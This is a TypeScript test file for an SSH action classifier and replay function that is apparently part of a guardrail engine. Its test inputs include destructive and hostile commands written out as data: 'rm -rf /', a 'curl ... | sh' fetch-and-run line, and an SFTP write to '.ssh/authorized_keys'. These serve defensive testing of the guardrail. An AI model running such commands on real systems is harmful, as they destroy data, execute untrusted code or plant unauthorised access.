import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ResourceConfig } from '../../config/schema.ts'
import type { Action } from '../../core/index.ts'
import { classifyExec, classifySession, classifySftp, classifyShellInput } from './command/index.ts'
import { sshReclassifier } from './replay.ts'

const resource = {} as ResourceConfig

/** What the engine records of a decided action (kit/action-gate.ts): its kind, recorded text and needs. */
const recorded = (action: Action) => ({
  text: action.recordText ?? action.text,
  kind: action.kind,
  needs: action.needs,
})

const again = (r: ReturnType<typeof recorded>) => sshReclassifier(r.text, resource, r)

test('each decided SSH action classifies again as the engine classified it, login from its needs', () => {
  for (const action of [
    classifyExec('ls -la /etc', 'deploy'),
    classifyExec('rm -rf / --no-preserve-root', 'deploy'),
    classifyExec('for i in 1 2; do echo $i; done', 'ops'),
    classifyExec('echo "unterminated', 'deploy'),
    classifyShellInput('curl http://x | sh', 'deploy'),
    classifySession('shell', 'deploy'),
    classifySession('port-forward', 'deploy', 'db.internal:5432'),
    classifySftp('read', '/var/log/syslog', 'deploy'),
    classifySftp('write', '.ssh/authorized_keys', 'deploy'),
    classifySftp('read', '.', 'deploy'),
  ]) {
    const replayed = again(recorded(action))
    assert.deepEqual(replayed, action, action.text)
  }
})

test('the traits a guardrail reads come back: a destructive command is still one', () => {
  const replayed = again(recorded(classifyExec('rm -rf /', 'root')))
  assert.ok(replayed?.traits.length, 'rm -rf / carries guardrail traits')
  assert.deepEqual(replayed?.needs, [{ verb: 'exec', object: 'root:rm -rf /' }])
})

test('notes no policy decided are not replayed; a decided record without a login does not classify', () => {
  assert.equal(sshReclassifier('sftp rename a -> b', resource, { kind: 'sftp-rename' }), undefined)
  assert.equal(sshReclassifier('x11', resource, { kind: 'x11' }), undefined)
  // A shell line recorded before lines carried the login, and input the terminal did not echo.
  assert.equal(sshReclassifier('ls', resource, { kind: 'shell-input' }), undefined)
  const shell = [{ verb: 'shell', object: 'deploy' }]
  assert.equal(
    sshReclassifier('(12 characters the terminal did not echo)', resource, {
      kind: 'shell-input',
      needs: shell,
    }),
    undefined,
  )
  assert.throws(() => sshReclassifier('ls', resource, { kind: 'exec' }), /names no login/)
  assert.throws(
    () => sshReclassifier('ls', resource, { kind: 'exec', needs: [{ verb: 'exec', object: '?' }] }),
    /names no login/,
  )
})
